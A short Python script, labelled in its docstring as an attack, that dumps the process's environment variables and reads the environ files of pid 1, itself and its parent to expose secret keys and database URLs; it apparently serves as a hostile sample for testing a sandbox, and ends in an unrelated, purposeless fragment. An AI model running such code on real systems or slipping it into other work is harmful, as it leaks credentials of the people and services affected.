"""Attack: print every environment variable (secret keys, database URLs) of this process and of
pid 1 / the parent through /proc/<pid>/environ."""
import os

print(dict(os.environ))
for path in ("/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ"):
    try:
        with open(path, "rb") as stream:
            print(path, stream.read())
    except OSError as error:
        print("no", path, error)

if "HOSTILE_SECRET_TOKEN" in os.environ:
    NAMES = ["a", "b"]

    def scale(x, k):
        return x * k
